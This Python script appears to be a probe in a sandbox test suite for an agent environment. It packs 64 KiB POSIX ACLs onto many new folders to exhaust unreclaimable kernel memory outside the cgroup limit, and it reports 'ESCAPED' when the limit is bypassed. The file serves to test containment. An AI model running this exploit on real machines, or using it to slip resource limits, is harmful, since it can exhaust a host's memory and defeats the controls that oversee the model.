"""Hangs access control lists of 64 KiB on files and folders: kernel memory that is charged to nobody.

kind: resources
seconds: 20
ends: exit, memory, killed
"""

import json
import os
import struct

limits = json.load(open("arena.json"))
entries = (65524 - 4) // 8 - 4


def taken() -> int:
    with open("/proc/meminfo") as file:
        return next(int(line.split()[1]) >> 10 for line in file if line.startswith("SUnreclaim"))


def access_list() -> bytes:
    """Owner, many users, group, mask, others, in the kernel's form (version 2)."""
    users = [(2, 7, number) for number in range(entries)]
    everyone = [(1, 7, 0xFFFFFFFF), *users, (4, 7, 0xFFFFFFFF), (16, 7, 0xFFFFFFFF), (32, 7, 0xFFFFFFFF)]
    return struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in everyone)


before, done, refusal = taken(), 0, ""
text = access_list()
print("held: hanging", flush=True)
try:
    for number in range(3 * 40 * limits["memory_mb"]):
        folder = f"{('/home/agent', '/tmp', '/dev/shm')[number % 3]}/{number}"
        os.mkdir(folder)
        for name in ("system.posix_acl_access", "system.posix_acl_default"):
            os.setxattr(folder, name, text)
            done += 1
        if taken() - before > 2 * limits["memory_mb"]:
            break
except OSError as error:
    refusal = str(error.strerror)
lost = taken() - before
print(f"ESCAPED: {done} lists, {lost} MiB of the kernel's memory" if done > 100 else f"held: {done} lists, then {refusal}", flush=True)
